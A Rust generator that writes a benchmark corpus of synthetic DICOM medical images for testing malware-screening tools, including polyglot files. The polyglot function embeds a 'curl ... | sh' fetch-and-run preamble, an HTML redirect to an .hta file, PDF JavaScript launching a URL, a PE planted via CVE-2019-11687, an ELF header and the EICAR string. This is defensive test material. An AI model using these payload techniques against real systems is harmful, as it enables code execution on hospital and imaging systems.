//! Generates the screening benchmark's corpus (`bench/scan.sh`) with dicom-rs.
//!
//! ```text
//! gen_corpus ct    DIR COUNT SEED   # COUNT CT slices, 512x512x16 bit (~513 KiB each)
//! gen_corpus small DIR COUNT SEED   # COUNT small images, 2-10 KiB each
//! ```
//!
//! Each kind writes its clean instances under `DIR/<kind>/` and a handful of polyglots
//! under `DIR/polyglot/`. Standard output lists the polyglots (`polyglot<TAB>path<TAB>kind`,
//! paths relative to DIR), so that the benchmark can check what every tool found, and
//! ends with one JSON line of totals: `{"files":N,"bytes":N,"polyglots":N}`. The output depends only on
//! `(kind, COUNT, SEED)`: every file comes from a PRNG seeded with the seed and the file's
//! index, whichever thread writes it.
//!
//! Clean instances are written by `dicom-object` with varied patients, studies, series,
//! UIDs, positions and acquisition values, and pixel data that looks like an image (a body
//! outline, lungs, bone, noise; 12 bits stored, as CT writes them) rather than noise: a
//! screening tool must not learn anything from random bytes that real images never hold.
//! Polyglots are built from the same instances: a real Windows PE planted the
//! CVE-2019-11687 way (`plant_pe_cve_2019_11687`), an ELF, HTML or shell-script preamble,
//! a ZIP appended after the data set, the EICAR test string in a text element, and an
//! Encapsulated PDF whose catalog runs JavaScript.

use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::atomic::{AtomicU64, Ordering};

use dicom_core::smallvec::SmallVec;
use dicom_core::{DataElement, PrimitiveValue, Tag, VR};
use dicom_dictionary_std::{tags, uids};
use dicom_object::{FileMetaTableBuilder, InMemDicomObject};

type Error = Box<dyn std::error::Error + Send + Sync>;

const USAGE: &str = "usage: gen_corpus ct|small DIR COUNT SEED";

/// Instances per series, series per study (CT); files per directory (small).
const CT_SLICES_PER_SERIES: usize = 100;
const CT_SERIES_PER_STUDY: usize = 2;
const SMALL_FILES_PER_DIR: usize = 200;

/// The polyglots written next to the clean instances of each kind, and how many of each.
const POLYGLOTS: [(&str, usize); 7] = [
    ("pe-cve-2019-11687", 4),
    ("elf-preamble", 2),
    ("html-preamble", 2),
    ("script-preamble", 2),
    ("appended-zip", 2),
    ("eicar-in-text-element", 2),
    ("pdf-javascript", 2),
];

const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("gen_corpus: {e}");
            ExitCode::from(2)
        }
    }
}

fn run(args: &[String]) -> Result<(), Error> {
    let [kind, dir, count, seed] = args else {
        return Err(USAGE.into());
    };
    let kind = match kind.as_str() {
        "ct" => Kind::Ct,
        "small" => Kind::Small,
        _ => return Err(USAGE.into()),
    };
    let dir = PathBuf::from(dir);
    let count: usize = count.parse().map_err(|_| USAGE)?;
    let seed: u64 = seed.parse().map_err(|_| USAGE)?;
    // Fail before writing thousands of files if the polyglots' payload is missing.
    let pe = pacsguard_testkit::real_pe();
    let elf = pacsguard_testkit::real_elf();

    let bytes = AtomicU64::new(0);
    let threads = std::thread::available_parallelism().map_or(2, |n| n.get());
    std::thread::scope(|scope| {
        let workers: Vec<_> = (0..threads)
            .map(|t| {
                let (dir, bytes) = (&dir, &bytes);
                scope.spawn(move || -> Result<(), Error> {
                    for index in (t..count).step_by(threads) {
                        let instance = kind.instance(seed, index);
                        let path = dir.join(kind.path(index));
                        let file = instance.encode()?;
                        write(&path, &file)?;
                        bytes.fetch_add(file.len() as u64, Ordering::Relaxed);
                    }
                    Ok(())
                })
            })
            .collect();
        workers
            .into_iter()
            .try_for_each(|w| w.join().map_err(|_| Error::from("a worker panicked"))?)
    })?;

    let mut polyglots = 0;
    for (name, how_many) in POLYGLOTS {
        for n in 0..how_many {
            // Built from instances no clean file uses (indices past COUNT).
            let index = count + polyglots;
            let file = polyglot(name, kind.instance(seed, index), &pe, &elf)?;
            let rel = format!("polyglot/{}-{name}-{n}.dcm", kind.name());
            write(&dir.join(&rel), &file)?;
            bytes.fetch_add(file.len() as u64, Ordering::Relaxed);
            println!("polyglot\t{rel}\t{name}");
            polyglots += 1;
        }
    }
    println!(
        "{{\"files\":{},\"bytes\":{},\"polyglots\":{polyglots}}}",
        count + polyglots,
        bytes.load(Ordering::Relaxed)
    );
    Ok(())
}

fn write(path: &Path, bytes: &[u8]) -> Result<(), Error> {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::write(path, bytes).map_err(|e| format!("{}: {e}", path.display()).into())
}

#[derive(Clone, Copy, Debug)]
enum Kind {
    Ct,
    Small,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::Ct => "ct",
            Kind::Small => "small",
        }
    }

    fn path(self, index: usize) -> String {
        match self {
            Kind::Ct => {
                let series = index / CT_SLICES_PER_SERIES;
                format!(
                    "ct/study{:04}/series{:02}/IM{index:06}.dcm",
                    series / CT_SERIES_PER_STUDY,
                    series % CT_SERIES_PER_STUDY + 1
                )
            }
            Kind::Small => format!("small/d{:03}/f{index:07}.dcm", index / SMALL_FILES_PER_DIR),
        }
    }

    fn instance(self, seed: u64, index: usize) -> Instance {
        match self {
            Kind::Ct => ct_instance(seed, index),
            Kind::Small => small_instance(seed, index),
        }
    }
}

/// An instance ready to encode.
#[derive(Debug)]
struct Instance {
    object: InMemDicomObject,
    transfer_syntax: &'static str,
}

impl Instance {
    fn encode(self) -> Result<Vec<u8>, Error> {
        let file = self
            .object
            .with_meta(FileMetaTableBuilder::new().transfer_syntax(self.transfer_syntax))?;
        let mut out = Vec::new();
        file.write_all(&mut out)?;
        Ok(out)
    }
}

// ---- values ------------------------------------------------------------------------------

/// SplitMix64: small, fast, and good enough for test data.
#[derive(Debug)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64, stream: u64, index: u64) -> Rng {
        let mut rng =
            Rng(seed ^ stream.rotate_left(32) ^ index.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        rng.next();
        rng
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + (self.next() % (hi - lo + 1) as u64) as i64
    }

    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }

    /// A `2.25.` UID (PS3.5 B.2: a UUID as a decimal integer).
    fn uid(&mut self) -> String {
        let value = (u128::from(self.next()) << 64 | u128::from(self.next())) >> 6;
        format!("2.25.{value}")
    }
}

const FAMILY: [&str; 12] = [
    "SMITH", "MÜLLER", "GARCIA", "NGUYEN", "ROSSI", "KOWALSKI", "TANAKA", "OKAFOR", "DUBOIS",
    "JANSEN", "SILVA", "COHEN",
];
const GIVEN: [&str; 12] = [
    "JOHN", "MARIA", "AHMED", "YUKI", "LUCA", "ANNA", "CHIDI", "CLAIRE", "PIET", "ANA", "NOAH",
    "SARA",
];
const MANUFACTURERS: [&str; 5] = [
    "SIEMENS",
    "GE MEDICAL SYSTEMS",
    "Philips",
    "TOSHIBA",
    "FUJIFILM",
];
const INSTITUTIONS: [&str; 4] = [
    "GENERAL HOSPITAL",
    "ST. MARY CLINIC",
    "UNIVERSITY MEDICAL CENTER",
    "CITY IMAGING",
];

fn text(value: impl Into<String>) -> PrimitiveValue {
    PrimitiveValue::Str(value.into())
}

fn multi(values: &[String]) -> PrimitiveValue {
    PrimitiveValue::Strs(values.iter().cloned().collect())
}

fn put(object: &mut InMemDicomObject, tag: Tag, vr: VR, value: PrimitiveValue) {
    object.put(DataElement::new(tag, vr, value));
}

/// Patient and study level attributes shared by every instance of a study: the study's
/// own RNG makes them agree across files written by different threads.
fn patient_and_study(object: &mut InMemDicomObject, seed: u64, study: u64, modality: &str) {
    let mut rng = Rng::new(seed, 1, study);
    let name = format!("{}^{}", rng.pick(&FAMILY), rng.pick(&GIVEN));
    put(
        object,
        tags::SPECIFIC_CHARACTER_SET,
        VR::CS,
        text("ISO_IR 192"),
    );
    put(object, tags::PATIENT_NAME, VR::PN, text(name));
    put(
        object,
        tags::PATIENT_ID,
        VR::LO,
        text(format!("PG{:08}", rng.range(0, 99_999_999))),
    );
    put(
        object,
        tags::PATIENT_BIRTH_DATE,
        VR::DA,
        text(format!(
            "{}{:02}{:02}",
            rng.range(1930, 2020),
            rng.range(1, 12),
            rng.range(1, 28)
        )),
    );
    put(
        object,
        tags::PATIENT_SEX,
        VR::CS,
        text(rng.pick(&["F", "M", "O"])),
    );
    let date = format!(
        "{}{:02}{:02}",
        rng.range(2015, 2026),
        rng.range(1, 12),
        rng.range(1, 28)
    );
    let time = format!(
        "{:02}{:02}{:02}",
        rng.range(7, 19),
        rng.range(0, 59),
        rng.range(0, 59)
    );
    put(object, tags::STUDY_DATE, VR::DA, text(date.clone()));
    put(object, tags::STUDY_TIME, VR::TM, text(time.clone()));
    put(object, tags::CONTENT_DATE, VR::DA, text(date));
    put(object, tags::CONTENT_TIME, VR::TM, text(time));
    put(
        object,
        tags::ACCESSION_NUMBER,
        VR::SH,
        text(format!("A{:09}", rng.range(0, 999_999_999))),
    );
    put(object, tags::MODALITY, VR::CS, text(modality));
    put(
        object,
        tags::MANUFACTURER,
        VR::LO,
        text(rng.pick(&MANUFACTURERS)),
    );
    put(
        object,
        tags::INSTITUTION_NAME,
        VR::LO,
        text(rng.pick(&INSTITUTIONS)),
    );
    put(
        object,
        tags::REFERRING_PHYSICIAN_NAME,
        VR::PN,
        text(format!("{}^{}", rng.pick(&FAMILY), rng.pick(&GIVEN))),
    );
    put(
        object,
        tags::STUDY_DESCRIPTION,
        VR::LO,
        text(rng.pick(&[
            "CT CHEST W/O CONTRAST",
            "CT ABDOMEN PELVIS",
            "CT THORAX",
            "FOLLOW-UP",
        ])),
    );
    put(object, tags::STUDY_INSTANCE_UID, VR::UI, text(rng.uid()));
    put(
        object,
        tags::STUDY_ID,
        VR::SH,
        text(format!("{}", rng.range(1, 99_999))),
    );
}

fn image_pixel_module(object: &mut InMemDicomObject, rows: u16, columns: u16) {
    put(
        object,
        tags::SAMPLES_PER_PIXEL,
        VR::US,
        PrimitiveValue::from(1_u16),
    );
    put(
        object,
        tags::PHOTOMETRIC_INTERPRETATION,
        VR::CS,
        text("MONOCHROME2"),
    );
    put(object, tags::ROWS, VR::US, PrimitiveValue::from(rows));
    put(object, tags::COLUMNS, VR::US, PrimitiveValue::from(columns));
    put(
        object,
        tags::BITS_ALLOCATED,
        VR::US,
        PrimitiveValue::from(16_u16),
    );
    put(
        object,
        tags::BITS_STORED,
        VR::US,
        PrimitiveValue::from(12_u16),
    );
    put(object, tags::HIGH_BIT, VR::US, PrimitiveValue::from(11_u16));
    put(
        object,
        tags::PIXEL_REPRESENTATION,
        VR::US,
        PrimitiveValue::from(0_u16),
    );
}

// ---- CT ------------------------------------------------------------------------------------

fn ct_instance(seed: u64, index: usize) -> Instance {
    let series = (index / CT_SLICES_PER_SERIES) as u64;
    let study = series / CT_SERIES_PER_STUDY as u64;
    let slice = (index % CT_SLICES_PER_SERIES) as u64;
    let mut object = InMemDicomObject::new_empty();
    patient_and_study(&mut object, seed, study, "CT");

    let mut series_rng = Rng::new(seed, 2, series);
    let series_uid = series_rng.uid();
    let thickness = [0.625, 1.0, 1.25, 2.5, 5.0][series_rng.range(0, 4) as usize];
    let spacing = 0.6 + series_rng.unit() * 0.3;
    let z0 = -series_rng.range(50, 400) as f64;
    let kvp = [80, 100, 120, 140][series_rng.range(0, 3) as usize];
    let kernel = series_rng.pick(&["B30f", "B70f", "STANDARD", "LUNG", "FC13"]);
    let mut rng = Rng::new(seed, 3, index as u64);
    let z = z0 + slice as f64 * thickness;

    put(
        &mut object,
        tags::SOP_CLASS_UID,
        VR::UI,
        text(uids::CT_IMAGE_STORAGE),
    );
    put(&mut object, tags::SOP_INSTANCE_UID, VR::UI, text(rng.uid()));
    put(
        &mut object,
        tags::IMAGE_TYPE,
        VR::CS,
        multi(&["ORIGINAL".into(), "PRIMARY".into(), "AXIAL".into()]),
    );
    put(
        &mut object,
        tags::SERIES_INSTANCE_UID,
        VR::UI,
        text(series_uid),
    );
    put(
        &mut object,
        tags::SERIES_NUMBER,
        VR::IS,
        text(format!("{}", series % 10 + 1)),
    );
    put(
        &mut object,
        tags::INSTANCE_NUMBER,
        VR::IS,
        text(format!("{}", slice + 1)),
    );
    put(
        &mut object,
        tags::SERIES_DESCRIPTION,
        VR::LO,
        text(format!("AXIAL {thickness} {kernel}")),
    );
    put(&mut object, tags::BODY_PART_EXAMINED, VR::CS, text("CHEST"));
    put(
        &mut object,
        tags::SLICE_THICKNESS,
        VR::DS,
        text(format!("{thickness}")),
    );
    put(&mut object, tags::KVP, VR::DS, text(format!("{kvp}")));
    put(&mut object, tags::CONVOLUTION_KERNEL, VR::SH, text(kernel));
    put(&mut object, tags::PATIENT_POSITION, VR::CS, text("HFS"));
    put(
        &mut object,
        tags::EXPOSURE,
        VR::IS,
        text(format!("{}", rng.range(50, 400))),
    );
    put(
        &mut object,
        tags::IMAGE_POSITION_PATIENT,
        VR::DS,
        multi(&[
            format!("{:.3}", -256.0 * spacing),
            format!("{:.3}", -256.0 * spacing),
            format!("{z:.3}"),
        ]),
    );
    put(
        &mut object,
        tags::IMAGE_ORIENTATION_PATIENT,
        VR::DS,
        multi(&[
            "1".into(),
            "0".into(),
            "0".into(),
            "0".into(),
            "1".into(),
            "0".into(),
        ]),
    );
    put(
        &mut object,
        tags::SLICE_LOCATION,
        VR::DS,
        text(format!("{z:.3}")),
    );
    put(
        &mut object,
        tags::PIXEL_SPACING,
        VR::DS,
        multi(&[format!("{spacing:.6}"), format!("{spacing:.6}")]),
    );
    image_pixel_module(&mut object, 512, 512);
    put(
        &mut object,
        tags::WINDOW_CENTER,
        VR::DS,
        multi(&["40".into(), "-600".into()]),
    );
    put(
        &mut object,
        tags::WINDOW_WIDTH,
        VR::DS,
        multi(&["400".into(), "1500".into()]),
    );
    put(&mut object, tags::RESCALE_INTERCEPT, VR::DS, text("-1024"));
    put(&mut object, tags::RESCALE_SLOPE, VR::DS, text("1"));
    put(&mut object, tags::RESCALE_TYPE, VR::LO, text("HU"));
    let phase = slice as f64 / CT_SLICES_PER_SERIES as f64;
    let pixels = ct_pixels(&mut series_rng, &mut rng, phase);
    put(
        &mut object,
        tags::PIXEL_DATA,
        VR::OW,
        PrimitiveValue::U16(SmallVec::from_vec(pixels)),
    );
    Instance {
        object,
        transfer_syntax: uids::EXPLICIT_VR_LITTLE_ENDIAN,
    }
}

/// An axial slice: air, a body, two lungs, a spine and a few vessels, with noise. Values
/// are stored CT numbers (HU + 1024) in 12 bits.
fn ct_pixels(series: &mut Rng, rng: &mut Rng, phase: f64) -> Vec<u16> {
    const N: usize = 512;
    let mut image = vec![24_u16; N * N]; // -1000 HU
    // (centre x, centre y, radius x, radius y, stored value); the series' RNG keeps the
    // anatomy of one series coherent, `phase` moves through it.
    let body_rx = 200.0 + series.unit() * 40.0;
    let body_ry = 140.0 + series.unit() * 40.0;
    let lung = 1.0 - (phase - 0.5).abs() * 1.6;
    let mut shapes = vec![(256.0, 260.0, body_rx, body_ry, 1064.0)];
    if lung > 0.0 {
        shapes.push((
            256.0 - body_rx * 0.45,
            250.0,
            body_rx * 0.35 * lung,
            body_ry * 0.6 * lung,
            180.0,
        ));
        shapes.push((
            256.0 + body_rx * 0.45,
            250.0,
            body_rx * 0.33 * lung,
            body_ry * 0.6 * lung,
            180.0,
        ));
    }
    shapes.push((256.0, 260.0 + body_ry * 0.7, 22.0, 20.0, 1724.0)); // vertebra
    shapes.push((256.0, 260.0 + body_ry * 0.7, 9.0, 8.0, 1300.0)); // canal
    for _ in 0..3 {
        let x = 256.0 + (rng.unit() - 0.5) * body_rx * 0.6;
        let y = 250.0 + (rng.unit() - 0.5) * body_ry * 0.5;
        shapes.push((
            x,
            y,
            6.0 + rng.unit() * 8.0,
            6.0 + rng.unit() * 8.0,
            1074.0 + rng.unit() * 300.0,
        ));
    }
    for &(cx, cy, rx, ry, value) in &shapes {
        let value = value as u16;
        for y in 0..N {
            let dy = (y as f64 - cy) / ry;
            if dy.abs() >= 1.0 {
                continue;
            }
            let half = rx * (1.0 - dy * dy).sqrt();
            let x0 = (cx - half).max(0.0) as usize;
            let x1 = ((cx + half) as usize).min(N - 1);
            image[y * N + x0..=y * N + x1].fill(value);
        }
    }
    // Noise: a sum of four 4-bit uniforms is close enough to Gaussian (sigma ~9 HU).
    let mut bits = 0_u64;
    for (i, pixel) in image.iter_mut().enumerate() {
        if i % 4 == 0 {
            bits = rng.next();
        }
        let b = bits >> ((i % 4) * 16);
        let noise = (b & 15) + (b >> 4 & 15) + (b >> 8 & 15) + (b >> 12 & 15);
        *pixel = (i32::from(*pixel) + noise as i32 - 30).clamp(0, 4095) as u16;
    }
    image
}

// ---- small ---------------------------------------------------------------------------------

/// A small image (2-10 KiB): thumbnails, key images, ultrasound/X-ray frames of a few
/// thousand pixels. One in ten is written in Implicit VR Little Endian.
fn small_instance(seed: u64, index: usize) -> Instance {
    let study = (index / 50) as u64;
    let mut rng = Rng::new(seed, 4, index as u64);
    let (modality, sop_class) = match rng.range(0, 3) {
        0 => ("US", uids::ULTRASOUND_IMAGE_STORAGE),
        1 => ("DX", uids::DIGITAL_X_RAY_IMAGE_STORAGE_FOR_PRESENTATION),
        2 => ("OT", uids::SECONDARY_CAPTURE_IMAGE_STORAGE),
        _ => ("CT", uids::CT_IMAGE_STORAGE),
    };
    let mut object = InMemDicomObject::new_empty();
    patient_and_study(&mut object, seed, 1_000_000 + study, modality);
    let mut series_rng = Rng::new(seed, 5, index as u64 / 10);
    put(&mut object, tags::SOP_CLASS_UID, VR::UI, text(sop_class));
    put(&mut object, tags::SOP_INSTANCE_UID, VR::UI, text(rng.uid()));
    put(
        &mut object,
        tags::SERIES_INSTANCE_UID,
        VR::UI,
        text(series_rng.uid()),
    );
    put(
        &mut object,
        tags::SERIES_NUMBER,
        VR::IS,
        text(format!("{}", index / 10 % 100 + 1)),
    );
    put(
        &mut object,
        tags::INSTANCE_NUMBER,
        VR::IS,
        text(format!("{}", index % 10 + 1)),
    );
    put(
        &mut object,
        tags::IMAGE_TYPE,
        VR::CS,
        multi(&["DERIVED".into(), "SECONDARY".into()]),
    );
    put(
        &mut object,
        tags::SERIES_DESCRIPTION,
        VR::LO,
        text(rng.pick(&["KEY IMAGES", "THUMBNAILS", "SCOUT", "LOCALIZER"])),
    );
    // 700-800 bytes of header, then 1.2-9 KiB of pixels.
    let rows = rng.range(24, 64) as u16;
    let columns = rng.range(24, 72) as u16;
    image_pixel_module(&mut object, rows, columns);
    put(
        &mut object,
        tags::WINDOW_CENTER,
        VR::DS,
        text(format!("{}", rng.range(300, 2000))),
    );
    put(
        &mut object,
        tags::WINDOW_WIDTH,
        VR::DS,
        text(format!("{}", rng.range(400, 4000))),
    );
    let (cx, cy) = (
        rng.unit() * f64::from(columns),
        rng.unit() * f64::from(rows),
    );
    let base = rng.range(200, 2500) as f64;
    let mut pixels = Vec::with_capacity(usize::from(rows) * usize::from(columns));
    for y in 0..rows {
        for x in 0..columns {
            let d = ((f64::from(x) - cx).powi(2) + (f64::from(y) - cy).powi(2)).sqrt();
            let noise = rng.range(-40, 40) as f64;
            pixels.push((base + 800.0 * (d / 12.0).cos() + noise).clamp(0.0, 4095.0) as u16);
        }
    }
    put(
        &mut object,
        tags::PIXEL_DATA,
        VR::OW,
        PrimitiveValue::U16(SmallVec::from_vec(pixels)),
    );
    let transfer_syntax = if index % 10 == 9 {
        uids::IMPLICIT_VR_LITTLE_ENDIAN
    } else {
        uids::EXPLICIT_VR_LITTLE_ENDIAN
    };
    Instance {
        object,
        transfer_syntax,
    }
}

// ---- polyglots -----------------------------------------------------------------------------

fn polyglot(name: &str, mut instance: Instance, pe: &[u8], elf: &[u8]) -> Result<Vec<u8>, Error> {
    // Polyglots are planted in Explicit VR Little Endian files, as the CVE's are.
    instance.transfer_syntax = uids::EXPLICIT_VR_LITTLE_ENDIAN;
    let preamble = |mut file: Vec<u8>, head: &[u8]| {
        file[..128].fill(0);
        file[..head.len().min(128)].copy_from_slice(&head[..head.len().min(128)]);
        file
    };
    Ok(match name {
        "pe-cve-2019-11687" => pacsguard_testkit::plant_pe_cve_2019_11687(&instance.encode()?, pe)
            .ok_or("no explicit-VR pixel data to plant the PE before")?,
        "elf-preamble" => preamble(instance.encode()?, &elf[..128]),
        "html-preamble" => preamble(
            instance.encode()?,
            b"<html><body><script>location='http://198.51.100.7/a.hta'</script></body></html>",
        ),
        "script-preamble" => preamble(
            instance.encode()?,
            b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\nexit 0\n",
        ),
        "appended-zip" => {
            let mut file = instance.encode()?;
            file.extend_from_slice(&pacsguard_testkit::zip_with("invoice.js", b"var a = 1;\n"));
            file
        }
        "eicar-in-text-element" => {
            put(
                &mut instance.object,
                tags::IMAGE_COMMENTS,
                VR::LT,
                text(EICAR),
            );
            instance.encode()?
        }
        "pdf-javascript" => {
            let pdf = pacsguard_testkit::pdf(
                "/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/'\\)) >>",
            );
            let object = &mut instance.object;
            for tag in [
                tags::PIXEL_DATA,
                tags::SAMPLES_PER_PIXEL,
                tags::PHOTOMETRIC_INTERPRETATION,
                tags::ROWS,
                tags::COLUMNS,
                tags::BITS_ALLOCATED,
                tags::BITS_STORED,
                tags::HIGH_BIT,
                tags::PIXEL_REPRESENTATION,
            ] {
                object.remove_element(tag);
            }
            put(
                object,
                tags::SOP_CLASS_UID,
                VR::UI,
                text(uids::ENCAPSULATED_PDF_STORAGE),
            );
            put(object, tags::MODALITY, VR::CS, text("DOC"));
            put(
                object,
                tags::MIME_TYPE_OF_ENCAPSULATED_DOCUMENT,
                VR::LO,
                text("application/pdf"),
            );
            put(
                object,
                tags::ENCAPSULATED_DOCUMENT,
                VR::OB,
                PrimitiveValue::U8(SmallVec::from_vec(pdf)),
            );
            instance.encode()?
        }
        other => return Err(format!("unknown polyglot kind {other}").into()),
    })
}
